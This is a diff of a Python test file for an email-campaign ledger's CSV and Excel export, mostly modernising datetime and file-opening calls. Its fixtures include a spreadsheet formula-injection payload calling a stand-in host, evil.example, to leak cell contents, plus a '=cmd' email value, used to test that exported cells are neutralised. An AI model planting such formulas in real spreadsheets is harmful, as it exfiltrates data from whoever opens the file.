@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import csv
 import zipfile
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import openpyxl
 import pytest
@@ -22,7 +22,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Kattints")'
 
 
 class Clock:
-    now = datetime(2026, 3, 29, 0, 30, tzinfo=timezone.utc)  # 01:30 CET; DST starts at 02:00 → 03:00
+    now = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)  # 01:30 CET; DST starts at 02:00 → 03:00
 
     def __call__(self) -> datetime:
         return self.now
@@ -40,7 +40,7 @@ def ledger(tmp_path):
     ])
     assert ledger.claim(C, "invitation", "jegyzo@pecs.hu", ["pending"])
     ledger.record(C, "invitation", "jegyzo@pecs.hu", "deferred", 451, "4.3.0", "451 4.3.0 próbálja később")
-    clock.now = datetime(2026, 3, 29, 1, 5, tzinfo=timezone.utc)  # 03:05 CEST
+    clock.now = datetime(2026, 3, 29, 1, 5, tzinfo=UTC)  # 03:05 CEST
     assert ledger.claim(C, "invitation", "jegyzo@pecs.hu", ["deferred"])
     ledger.record(C, "invitation", "jegyzo@pecs.hu", "sent", 250, "2.0.0", "250 2.0.0 OK")
     assert ledger.claim(C, "invitation", "=cmd@evil.hu", ["pending"])
@@ -96,7 +96,7 @@ def test_csv_read_back_with_bom_semicolons_and_neutralised_cells(ledger, tmp_pat
     assert export_log(ledger, path, campaign_id=C) == 5
     raw = path.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbfKamp\xc3\xa1ny;") and b"\r\n" in raw
-    with open(path, encoding="utf-8-sig", newline="") as fh:
+    with path.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh, delimiter=";"))
     assert rows[0] == list(HEADERS)
 
